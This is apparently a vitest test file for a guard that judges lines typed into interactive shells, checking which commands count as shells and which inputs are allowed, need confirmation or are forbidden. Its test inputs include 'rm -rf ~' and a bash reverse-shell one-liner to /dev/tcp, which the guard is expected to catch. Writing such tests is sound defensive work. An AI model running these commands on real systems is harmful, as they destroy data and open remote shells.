/**
 * Input typed into a process that is a shell (sh_interact): which processes count as shells,
 * and the guard that judges each submitted line whole — across several sends, key by key,
 * after ^U / ^C, and `ask` once keys mish cannot follow (history, completion) edited it. Pure.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { builtinPolicy, isShellCommand, ShellInputGuard } from '../../src/main/core/policy/index.js';

const policy = builtinPolicy(readFileSync(path.join(__dirname, '../../grammars/_meta/policy.toml'), 'utf8'));
const guard = () => new ShellInputGuard(() => policy, () => ({ cwd: '/work/project' }));

describe('isShellCommand', () => {
  it.each([
    ['bash', true],
    ['bash --norc -i', true],
    ['zsh -l', true],
    ['ssh prod', true],
    ['ssh -p 2222 me@prod', true],
    ['su -', true],
    ['sudo -i', true],
    ['docker exec -it web sh', true],
    ['ssh prod uptime', false],
    ['bash deploy.sh', false],
    ['bash -c "npm run dev"', false],
    ['npm run dev', false],
    ['python3 -m http.server', false],
    ['echo ls | bash', false],
  ])('%s → %s', (cmd, shell) => expect(isShellCommand(cmd)).toBe(shell));
});

describe('ShellInputGuard', () => {
  it('judges the line a send completes, including what earlier sends typed', () => {
    const g = guard();
    expect(g.check({ text: 'rm -rf ' }).decision).toBe('allow');
    g.commit({ text: 'rm -rf ' });
    expect(g.check({ text: '~\n' })).toMatchObject({ decision: 'ask', rule: 'rm-recursive-root-or-home' });
    expect(g.check({ text: 'build\n' }).decision).toBe('allow');
  });

  it('keys: characters, Space, Backspace, Enter; ^U and ^C clear; history and completion make the line unknown', () => {
    const g = guard();
    const keys = [...'git push -fx'].map((c) => (c === ' ' ? 'Space' : c));
    expect(g.check({ keys: [...keys, 'Backspace', 'Enter'] })).toMatchObject({ decision: 'ask', rule: 'git-push-force' });
    g.commit({ keys: [...keys] });
    g.commit({ keys: ['C-u'] });
    expect(g.check({ text: 'ls\n' }).decision).toBe('allow');
    expect(g.check({ keys: ['Up', 'Enter'] })).toMatchObject({ decision: 'ask', rule: 'shell-input-unknown' });
    expect(g.check({ text: 'rm -rf bu\tld\n' })).toMatchObject({ decision: 'ask', rule: 'shell-input-unknown' });
    g.commit({ keys: ['Up'] });
    g.commit({ keys: ['C-c'] });
    expect(g.check({ text: 'echo ok\r' }).decision).toBe('allow');
  });

  it('several lines in one send: the strictest decides', () => {
    expect(guard().check({ text: 'ls\nbash -i >& /dev/tcp/10.0.0.1/1 0>&1\necho done\n' })).toMatchObject({ decision: 'forbid', rule: 'reverse-shell' });
  });
});
